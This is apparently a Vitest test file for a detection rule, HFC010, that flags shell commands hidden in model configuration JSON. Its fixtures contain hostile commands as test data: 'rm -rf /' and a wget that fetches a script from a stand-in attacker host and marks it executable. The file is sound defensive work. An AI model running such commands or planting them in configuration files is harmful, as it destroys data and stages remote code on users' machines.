import { describe, it } from "vitest";
import { expectSafeRule } from "../../test-support/safetensors-builder.js";

describe("HFC010", () => {
  it("catches rm -rf", async () => {
    await expectSafeRule("{\"config\":{\"debug_command\":\"rm -rf /\"}}", "HFC010", true, "suspicious_config.json");
  });
  it("catches wget of a script", async () => {
    await expectSafeRule("{\"model_type\":\"x\",\"setup\":\"wget http://evil.example/p.sh && chmod +x p.sh\"}", "HFC010", true, "suspicious_config.json");
  });
  it("does not fire on a URL without a command", async () => {
    await expectSafeRule("{\"config\":{\"remote_url\":\"http://example.com/data\"}}", "HFC010", false, "suspicious_config.json");
  });
});
